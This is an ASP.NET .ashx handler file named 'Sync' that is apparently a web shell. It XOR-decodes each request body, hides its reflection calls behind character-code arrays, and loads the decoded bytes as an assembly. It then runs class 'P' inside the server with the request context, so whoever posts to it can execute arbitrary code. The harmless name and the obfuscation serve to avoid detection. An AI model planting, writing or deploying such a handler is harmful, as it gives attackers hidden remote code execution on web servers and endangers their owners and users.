<%@ WebHandler Language="C#" Class="Sync" %>
using System;
using System.Web;
public class Sync : IHttpHandler {
    static string N(int[] c) { var s = ""; foreach (var x in c) s += (char)x; return s; }
    public void ProcessRequest(HttpContext ctx) {
        byte[] body = ctx.Request.BinaryRead(ctx.Request.ContentLength);
        for (int i = 0; i < body.Length; i++) body[i] ^= 0x5a;
        var t = Type.GetType(N(new int[] {83,121,115,116,101,109,46,82,101,102,108,101,99,116,105,111,110,46,65,115,115,101,109,98,108,121}));
        var m = t.GetMethod(N(new int[] {76,111,97,100}), new Type[] { typeof(byte[]) });
        var asm = m.Invoke(null, new object[] { body });
        asm.GetType().GetMethod("CreateInstance", new Type[] { typeof(string) }).Invoke(asm, new object[] { "P" }).Equals(ctx);
    }
    public bool IsReusable { get { return false; } }
}
